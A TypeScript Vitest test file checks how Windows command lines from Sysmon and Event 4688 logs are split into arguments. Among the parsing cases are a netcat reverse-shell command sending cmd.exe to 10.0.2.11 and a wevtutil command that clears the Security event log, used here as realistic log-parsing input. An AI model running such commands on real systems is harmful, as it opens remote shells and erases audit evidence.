import { describe, expect, test } from "vitest";
import { splitArguments, splitAtBlanks } from "./command-line.ts";

// The tables of ecs-mapping 3.1 and 3.2, and what they imply.
describe("command lines", () => {
  test.each([
    [
      "c:\\t\\nc64.exe 10.0.2.11 3001 -e cmd.exe",
      ["c:\\t\\nc64.exe", "10.0.2.11", "3001", "-e", "cmd.exe"],
    ],
    [`"C:\\Windows\\system32\\notepad.exe" `, ["C:\\Windows\\system32\\notepad.exe"]],
    [`a "b c" d`, ["a", "b c", "d"]],
    [`a "b""c" d`, ["a", `b"c d`]],
    [`a """b" c`, ["a", `"b c`]],
    [`a \\"b c\\" d`, ["a", `"b`, `c"`, "d"]],
    [`a "b\\\\" c`, ["a", "b\\", "c"]],
    [`a "b\\\\\\"c"`, ["a", `b\\"c`]],
    [`a\\\\\\b "x\\y"`, ["a\\\\\\b", "x\\y"]],
    [`a "" b`, ["a", "", "b"]],
    [`"C:\\dir\\" next`, [`C:\\dir" next`]],
    [`x /p:K="a b" /t:"q"`, ["x", "/p:K=a b", "/t:q"]],
    ["", []],
    [" \t ", []],
    ["a\tb  c", ["a", "b", "c"]],
    ["a\u00a0b\nc", ["a\u00a0b\nc"]],
    ["tail\\\\", ["tail\\\\"]],
    [`""`, [""]],
  ])("Sysmon: %s", (commandLine, args) => {
    expect(splitArguments(commandLine)).toEqual(args);
  });

  test.each([
    [
      `"C:\\Windows\\system32\\wevtutil.exe" cl Security`,
      [`"C:\\Windows\\system32\\wevtutil.exe"`, "cl", "Security"],
    ],
    ["a  b", ["a", "", "b"]],
    [`"x.exe" `, [`"x.exe"`, ""]],
    [`a "b c\td" e`, ["a", `"b c\td"`, "e"]],
    ["a\tb\nc", ["a", "b", "c"]],
  ])("4688: %s", (commandLine, args) => {
    expect(splitAtBlanks(commandLine)).toEqual(args);
  });
});
